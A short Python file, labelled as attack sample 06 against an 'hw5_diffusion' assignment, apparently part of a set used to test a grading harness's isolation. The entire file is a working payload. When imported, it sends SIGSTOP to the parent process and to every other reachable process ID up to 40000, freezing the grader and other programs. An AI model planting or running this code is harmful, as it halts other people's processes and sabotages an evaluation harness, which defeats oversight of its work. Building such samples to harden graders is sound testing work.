# attack: 06 | earns: nothing | needs: another user id | in: hw5_diffusion | tries: stop every other process by SIGSTOP, while this file is imported
import os
import signal

for _pid in [os.getppid(), *range(2, 40000)]:
    try:
        os.kill(_pid, 0)
    except OSError:
        continue
    if _pid != os.getpid():
        os.kill(_pid, signal.SIGSTOP)
